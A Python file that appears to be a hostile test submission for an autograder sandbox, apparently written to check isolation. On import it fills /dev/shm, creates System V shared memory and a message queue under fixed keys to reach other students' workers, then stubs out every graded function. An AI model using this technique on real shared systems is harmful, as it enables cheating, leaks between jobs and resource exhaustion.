"""Attack: use memory shared with the machine to leave things behind and to talk to
other students' workers.

It fills /dev/shm (64 MiB), creates System V shared memory segments and a
message queue under fixed keys, and reads what an earlier worker left under
the same names. Without an IPC namespace and a private /dev/shm, two
students exchanged answers this way, and the segments outlived the batch.
"""
import ctypes
import os

NAMES = ("sigmoid_forward", "sigmoid_backward", "tanh_forward", "tanh_backward", "relu_forward", "relu_backward",
         "affine_forward", "affine_backward", "mse_loss", "two_layer_net", "eval_numerical_gradient")
KEYS = [0x41474100 + i for i in range(8)]
_libc = ctypes.CDLL(None, use_errno=True)


def _leave_behind():
    found = []
    try:
        for name in os.listdir("/dev/shm"):
            found.append(name)
        with open("/dev/shm/autograder-attack-drop", "wb") as fh:
            fh.write(b"\0" * (64 * 2**20))
    except OSError:
        pass
    for key in KEYS:
        if _libc.shmget(key, 0, 0o666) >= 0:
            found.append(hex(key))
        _libc.shmget(key, 1 << 20, 0o1000 | 0o666)  # IPC_CREAT
    _libc.msgget(0x41474199, 0o1000 | 0o666)
    return found


_FOUND = _leave_behind()


def _attack(*args, **kwargs):
    raise NotImplementedError(f"attack: found {len(_FOUND)} things left by others")


for _name in NAMES:
    globals()[_name] = _attack
